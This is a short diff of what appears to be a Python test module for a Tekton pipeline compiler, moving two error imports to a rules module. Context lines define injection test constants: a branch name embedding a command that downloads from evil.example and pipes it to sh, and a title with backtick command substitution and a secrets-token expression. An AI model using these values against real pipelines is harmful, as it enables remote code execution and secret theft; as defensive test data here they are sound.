@@ -14,13 +14,11 @@ from pipelines.scripts import shell_script
 from pipelines.spec import Job, Matrix, SecretRef, Service, Spec, Step
 from pipelines.tekton import (
     CompileOptions,
-    RetriesWithAllowFailureError,
-    TektonVariableError,
     compile_pipeline_run,
     go_duration,
     to_yaml,
 )
-from pipelines.tekton_rules import violations
+from pipelines.tekton_rules import RetriesWithAllowFailureError, TektonVariableError, violations
 
 HOSTILE_BRANCH = "$(curl evil.example | sh)"
 HOSTILE_TITLE = "`id` ${{ secrets.TOKEN }} $(params.sha)"
